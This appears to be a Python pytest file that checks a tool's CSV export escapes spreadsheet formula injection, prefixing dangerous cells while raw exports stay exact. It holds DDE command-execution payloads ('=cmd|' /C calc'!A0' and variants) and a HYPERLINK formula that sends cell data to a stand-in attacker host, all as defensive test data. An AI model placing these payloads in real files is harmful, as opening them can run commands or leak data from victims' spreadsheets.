"""A name in a store that is a formula for the spreadsheet in which somebody opens an export."""

import csv
from collections.abc import Iterator
from itertools import product
from pathlib import Path

import pytest
from tests.fixtures import recorded
from tests.fixtures.server_process import store_process, swarmscope, write

from swarmscope.line_protocol import Field, line, series
from swarmscope.runs.export import Format, export
from swarmscope.store.http_reader import HttpReader

RUN = "run"
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"report")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1dcmd",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
)
"""What begins as one."""
WITHIN = {
    "x;=1+1;y": "x;'=1+1;y",
    "x\t=1+1": "x\t'=1+1",
    "x|@SUM(1)": "x|'@SUM(1)",
    'x;"=1+1': "x;\"'=1+1",
    "x\n-2": "x\n'-2",
    ";\uff1dcmd": ";'\uff1dcmd",
    "=1;\t=2": "'=1;\t'=2",
    "\t=1": "'\t'=1",
}
"""What has one where a spreadsheet that doesn't split at commas begins a cell."""
SPLIT = (",", ";", "\t", "|", ",;\t")
"""By what spreadsheets split a .csv: their system's list separator, or several at once."""
HONEST = ("/a", "a=b", "'quoted", "a-b", "1", "|x", " =1", "a; b=c", "x,-1", 'ünïcode,"x"', "")
BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def all_of(signs: str, most: int) -> tuple[str, ...]:
    """Return all texts of *signs* up to a length of *most*."""
    lengths = range(1, most + 1)
    return tuple("".join(some) for length in lengths for some in product(signs, repeat=length))


@pytest.fixture(scope="module")
def reader(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HttpReader]:
    """A store with a run whose names are formulas; and one without any."""
    with store_process(tmp_path_factory.mktemp("store")) as url:
        at = recorded.T0 * 10**9
        for run, texts in ((RUN, (*FORMULAS, *HONEST)), ("honest", HONEST)):
            write(url, [line(series("locust_run", {"run": run, "event": "start"}), {"v": 1}, at)])
            for number, text in enumerate(texts):
                tags = {"run": run, "number": f"n{number}", **({"name": text} if text else {})}
                fields: dict[str, Field] = {"message": text, "offset": -3.5, "count": -2}
                write(url, [line(series("m", tags), fields, at + number)])
        for name, texts in (("within", tuple(WITHIN)), ("all", all_of(';\t,"\n=x', 4))):
            told = series(name, {"run": RUN})
            write(url, [line(told, {"message": t}, at + n) for n, t in enumerate(texts)])
        tags = {"run": RUN, "=tag": "x"}
        write(url, [line(series("odd", tags), {"=cmd|' /C calc'!A0": 1.0, "-x": "a"}, at)])
        yield HttpReader(url)


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as file:
        return list(csv.DictReader(file))


def split(text: str, separators: str) -> Iterator[str]:
    """Cells as a spreadsheet finds them: a quote counts at a cell's begin, two within are one."""
    cell, state = "", "begin"
    for sign in text:
        if state == "quoted":
            state = "ended" if sign == '"' else state
            cell += sign if sign != '"' else ""
        elif sign in separators or sign in "\r\n":
            yield cell
            cell, state = "", "begin"
        elif sign == '"' and state != "within":
            cell += sign if state == "ended" else ""
            state = "quoted"
        else:
            cell, state = cell + sign, "within"
    yield cell


@pytest.mark.parametrize("separators", SPLIT)
def test_nor_where_a_spreadsheet_splits_by_something_else(
    reader: HttpReader, tmp_path: Path, separators: str
) -> None:
    written = export(reader, RUN, Format.CSV, tmp_path)
    for path in written.rows:
        # Blanks before a formula don't keep everybody from running it.
        found = {cell.lstrip("\t\r\n") for cell in split(path.read_bytes().decode(), separators)}
        assert {cell for cell in found if cell.startswith(BEGINS)} <= {"-3.5", "-2"}, path


def test_what_is_changed_within_a_text_can_be_seen(reader: HttpReader, tmp_path: Path) -> None:
    export(reader, RUN, Format.CSV, tmp_path)
    found = [row["message"] for row in cells(tmp_path / RUN / "within.csv")]
    assert found == list(WITHIN.values())


def test_no_cell_of_a_csv_begins_as_a_formula_but_numbers(
    reader: HttpReader, tmp_path: Path
) -> None:
    written = export(reader, RUN, Format.CSV, tmp_path)
    assert written.changed
    for path in written.rows:
        for row in cells(path):
            texts = {k: v for k, v in row.items() if k not in ("offset", "count")}
            assert not [v for v in (*texts, *texts.values()) if v.startswith(BEGINS)], path
    rows = cells(tmp_path / RUN / "m.csv")
    assert {row["message"] for row in rows} == {*(f"'{text}" for text in FORMULAS), *HONEST}
    assert {row["name"] for row in rows} == {row["message"] for row in rows}
    assert {(row["offset"], row["count"]) for row in rows} == {("-3.5", "-2")}


@pytest.mark.parametrize("kind", Format)
def test_raw_is_exact_and_so_are_the_formats_that_no_spreadsheet_opens(
    reader: HttpReader, tmp_path: Path, kind: Format
) -> None:
    duckdb = pytest.importorskip("duckdb")
    written = export(reader, RUN, kind, tmp_path, raw=kind is Format.CSV)
    assert not written.changed
    path = tmp_path / RUN / f"m.{kind}"
    if kind is Format.CSV:
        found = {row["message"] for row in cells(path)}
    else:
        found = {row[0] for row in duckdb.execute(f"SELECT message FROM '{path}'").fetchall()}
    assert found == {*FORMULAS, *HONEST}


def test_a_run_without_any_is_the_same_with_and_without_raw(
    reader: HttpReader, tmp_path: Path
) -> None:
    written = export(reader, "honest", Format.CSV, tmp_path / "a")
    assert not written.changed
    export(reader, "honest", Format.CSV, tmp_path / "b", raw=True)
    for path in written.rows:
        assert path.read_bytes() == (tmp_path / "b/honest" / path.name).read_bytes()


def test_the_command_says_what_it_did_and_how_to_do_without(
    reader: HttpReader, tmp_path: Path
) -> None:
    done = swarmscope("export", RUN, "--url", reader.url, cwd=tmp_path)
    assert done.returncode == 0
    assert "--raw" in done.stderr
    done = swarmscope("export", RUN, "--url", reader.url, "--raw", cwd=tmp_path)
    assert (done.returncode, done.stderr) == (0, "")
    done = swarmscope("export", "honest", "--url", reader.url, cwd=tmp_path)
    assert (done.returncode, done.stderr) == (0, "")
